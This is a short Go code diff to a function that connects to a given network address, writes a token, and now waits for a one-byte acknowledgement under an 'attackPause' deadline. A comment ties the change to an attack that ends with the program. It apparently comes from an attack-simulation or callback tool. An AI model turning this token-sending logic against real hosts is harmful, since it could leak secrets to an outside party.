@@ -80,7 +80,11 @@ func call(network, address, token string) {
 	if err != nil {
 		return
 	}
-	_, _ = io.WriteString(conn, token)
+	_ = conn.SetDeadline(time.Now().Add(attackPause))
+	// Until the host has noted the call: the attack ends with this program.
+	if _, err := io.WriteString(conn, token); err == nil {
+		_, _ = conn.Read(make([]byte, 1))
+	}
 	_ = conn.Close()
 }
 
